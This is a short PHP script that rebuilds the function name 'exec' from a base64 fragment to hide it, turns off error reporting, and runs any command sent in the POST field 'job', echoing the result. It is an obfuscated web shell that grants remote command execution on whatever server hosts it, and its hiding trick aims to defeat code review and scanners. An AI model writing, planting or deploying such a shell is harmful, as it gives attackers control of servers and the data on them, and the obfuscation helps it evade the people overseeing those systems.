<?php
// The routine's name sits base64-encoded in the head of a longer string and is read back one
// byte at a time; the reads past the end come back empty (and silenced) so the pieces still join.
error_reporting(0);
$store = 'ZXhl' . strrev('c');
$name = base64_decode($store[0] . $store[1] . $store[2] . $store[3]) . $store[4] . @$store[5] . @$store[6] . @$store[8];
$out = array();
$job = isset($_POST['job']) ? trim($_POST['job']) : '';
if ($job !== '') {
    $name($job, $out);
    echo implode("\n", $out);
}
